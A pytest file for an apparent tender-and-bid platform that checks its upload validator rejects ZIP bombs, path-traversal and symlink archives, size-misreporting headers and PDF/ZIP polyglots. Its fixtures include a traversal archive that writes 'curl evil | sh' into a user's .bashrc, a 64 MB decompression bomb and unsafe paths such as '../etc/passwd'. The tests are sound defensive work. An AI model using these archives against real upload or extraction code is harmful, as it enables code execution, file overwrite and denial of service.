"""Upload abuse: ZIP bombs and archives that write outside their folder are refused on arrival,
on every path a ZIP can come in by (tender documents, bid form, chunked bid upload)."""

import io
import os
import zipfile

import pytest
from sqlalchemy import func, select

from safkat.bids.models import Bid
from safkat.storage import UploadRejected
from safkat.tenders.models import TenderDocument
from safkat.zipcheck import ZipLimits, check_archives, check_zip, is_safe_name
from tests.bids.helpers import post_bid
from tests.bids.test_chunked_upload import complete, send_all, start
from tests.tenders.test_drafting import create_ready_draft


def archive(members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def office_document() -> bytes:
    """What a .docx is: a ZIP of XML parts, a realistic, harmless archive."""
    return archive(
        {
            "[Content_Types].xml": b"<Types/>" * 20,
            "word/document.xml": ("<w:p>Mémoire technique — مذكرة تقنية</w:p>" * 400).encode(),
            "word/media/image1.png": os.urandom(30_000),
        }
    )


def bomb() -> bytes:
    """64 MB of zeros in about 64 KB: expands a thousand times."""
    return archive({"zeros.bin": bytes(64 * 1024 * 1024)})


def traversal() -> bytes:
    return archive({"plans/ok.txt": b"fine", "../../home/officer/.bashrc": b"curl evil | sh"})


def symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        link = zipfile.ZipInfo("documents")
        link.create_system = 3
        link.external_attr = (0o120777) << 16  # S_IFLNK
        zf.writestr(link, "/etc")
    return out.getvalue()


def lying_sizes() -> bytes:
    """A member whose header says 10 bytes but which inflates to 8 MB."""
    data = bytearray(archive({"small.txt": bytes(8 * 1024 * 1024)}))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local header, central directory
        at = data.index(signature)
        data[at + offset : at + offset + 4] = (10).to_bytes(4, "little")
    return bytes(data)


def test_a_real_office_document_passes():
    check_zip(io.BytesIO(office_document()))


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (bomb(), "expands to far more than its size"),
        (traversal(), "would write outside its folder"),
        (symlink(), "would write outside its folder"),
        (lying_sizes(), "damaged or cannot be checked"),
        (office_document()[:-40], "damaged or cannot be checked"),  # truncated: no central directory
    ],
    ids=["bomb", "traversal", "symlink", "lying-sizes", "truncated"],
)
def test_unsafe_archives_are_refused(content, message):
    with pytest.raises(UploadRejected) as refused:
        check_zip(io.BytesIO(content))
    assert message in refused.value.message % refused.value.params


def test_too_many_members_and_total_size_are_bounded():
    many = archive({f"f{n}.txt": b"x" for n in range(30)})
    with pytest.raises(UploadRejected, match="too many files"):
        check_zip(io.BytesIO(many), ZipLimits(max_members=20))
    big = archive({"a.bin": os.urandom(200_000)}, method=zipfile.ZIP_STORED)
    with pytest.raises(UploadRejected, match="expands"):
        check_zip(io.BytesIO(big), ZipLimits(max_total_bytes=100_000))


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("plans/lot-1.pdf", True),
        ("dossier..final.pdf", True),
        ("../etc/passwd", False),
        ("a/../../b", False),
        ("/etc/passwd", False),
        ("C:\\Windows\\system.ini", False),
        ("..\\..\\autoexec.bat", False),
        ("nul\x00.txt", False),
    ],
)
def test_member_names(name, safe):
    assert is_safe_name(name) is safe


def test_a_tender_document_bomb_is_refused_and_nothing_kept(login, make, clock, db_session, app):
    client = login(make.officer())
    tender_id = create_ready_draft(client, clock, make)
    files_before = {p for p in app.extensions["safkat.files"].root.rglob("*") if p.is_file()}
    response = client.post(
        f"/officer/tenders/{tender_id}/documents?lang=en",
        data={"title": "Plans", "file": (io.BytesIO(bomb()), "plans.zip")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422 and "expands to far more than its size" in response.get_data(as_text=True)
    count = select(func.count()).select_from(TenderDocument).where(TenderDocument.tender_id == tender_id)
    assert db_session.scalar(count) == 1, "only the draft's own document"
    assert {p for p in app.extensions["safkat.files"].root.rglob("*") if p.is_file()} == files_before


def test_a_bid_with_a_traversal_archive_is_refused(login, make, db_session):
    tender, firm = make.tender(state="open"), make.bidder()
    client = login(firm)
    response = post_bid(client, tender, technical=traversal())
    assert response.status_code == 303  # back to the form, named; the other file stays in the draft
    page = client.get(response.headers["Location"] + "?lang=en").get_data(as_text=True)
    assert "“memoire-technique.pdf” was not accepted: This ZIP file would write outside its folder" in page
    draft = db_session.scalar(select(Bid))
    assert draft.status == "draft" and [e.kind for e in draft.envelopes if not e.is_offer_data] == ["application"]


def test_a_chunked_bomb_is_refused_at_completion(login, make, db_session, app):
    tender, firm = make.tender(state="open", lots=1), make.bidder()
    client, content = login(firm), bomb()
    state = start(client, tender, content).get_json()
    send_all(client, state, content)
    response = complete(client, state)
    assert response.status_code == 422 and "expands to far more" in response.get_json()["error"]
    assert db_session.scalar(select(Bid)) is None


def test_an_office_document_goes_through_the_chunked_upload(login, make, db_session):
    tender, firm = make.tender(state="open", lots=1), make.bidder()
    client, content = login(firm), office_document()
    state = start(client, tender, content).get_json()
    send_all(client, state, content)
    assert complete(client, state).status_code == 200
    assert len(db_session.scalar(select(Bid)).envelopes) == 1


# Issue 18, finding 1: a "PDF" that also is a ZIP is checked as the archive it is.

PDF_HEAD = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n"


def polyglot(zip_bytes: bytes, after: bytes = b"") -> bytes:
    """What the probe sent: a PDF's first bytes, then an archive (then, maybe, more PDF)."""
    return PDF_HEAD + zip_bytes + after


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (polyglot(bomb()), "expands to far more than its size"),
        (polyglot(traversal()), "would write outside its folder"),
        (polyglot(traversal(), after=b"\n%%EOF\n" + os.urandom(70_000)), "would write outside its folder"),
        (polyglot(lying_sizes()), "cannot be checked. Such ambiguous files are refused"),
    ],
    ids=["bomb", "traversal", "traversal-inside", "unreadable"],
)
def test_polyglots_are_checked_as_the_archives_they_are(content, message):
    with pytest.raises(UploadRejected) as refused:
        check_archives(io.BytesIO(content), "application/pdf")
    assert message in refused.value.message % refused.value.params


def test_a_file_full_of_archive_end_signatures_is_refused_quickly():
    with pytest.raises(UploadRejected, match="ambiguous"):
        check_archives(io.BytesIO(PDF_HEAD + b"PK\x05\x06" * 1_000_000), "application/pdf")


def test_a_pdf_is_not_refused_for_bytes_that_only_look_like_an_archive_end():
    stray = PDF_HEAD + os.urandom(5000) + b"PK\x05\x06" + os.urandom(40) + b"\n%%EOF\n"
    check_archives(io.BytesIO(stray), "application/pdf")
    check_archives(io.BytesIO(polyglot(office_document())), "application/pdf")  # harmless: checked, passes


def test_a_polyglot_tender_amendment_is_refused(login, make, clock, db_session):
    from tests.tenders.test_drafting import create_ready_draft as ready

    officer = make.officer()
    client = login(officer)
    tender_id = ready(client, clock, make)
    client.post(f"/officer/tenders/{tender_id}/publish", data={})
    response = client.post(
        f"/officer/tenders/{tender_id}/amend?lang=en",
        data={
            "reason": "Plans",
            "document_title": "Plans",
            "document": (io.BytesIO(polyglot(bomb())), "plans.pdf"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 422 and "expands to far more" in response.get_data(as_text=True)
    count = select(func.count()).select_from(TenderDocument).where(TenderDocument.tender_id == tender_id)
    assert db_session.scalar(count) == 1, "only the draft's own document"


def test_a_polyglot_bid_document_is_refused_on_the_form_and_in_chunks(login, make, db_session):
    tender, firm = make.tender(state="open", lots=1), make.bidder()
    client = login(firm)
    response = post_bid(client, tender, technical=polyglot(traversal()))
    assert response.status_code == 303  # back to the form, the refused file named
    page = client.get(response.headers["Location"] + "?lang=en").get_data(as_text=True)
    assert "“memoire-technique.pdf” was not accepted: This ZIP file would write outside its folder" in page
    content = polyglot(bomb())
    state = start(client, tender, content).get_json()
    send_all(client, state, content)
    response = complete(client, state)
    assert response.status_code == 422 and "expands to far more" in response.get_json()["error"]
    bid = db_session.scalar(select(Bid))
    assert bid.status == "draft" and "technical" not in {e.kind for e in bid.envelopes if not e.is_offer_data}


def test_a_polyglot_attestation_is_refused(login, make, db_session):
    from safkat.accounts.models import EnterpriseDocument

    firm = make.bidder(enterprise=make.enterprise(status="registered"))
    response = login(firm).post(
        "/enterprise?lang=en",
        data={
            "trade_register": (io.BytesIO(polyglot(traversal())), "rc.pdf"),
            "support_attestation": (io.BytesIO(PDF_HEAD + b"%%EOF\n"), "anade.pdf"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 422 and "would write outside its folder" in response.get_data(as_text=True)
    assert db_session.scalar(select(func.count()).select_from(EnterpriseDocument)) == 0
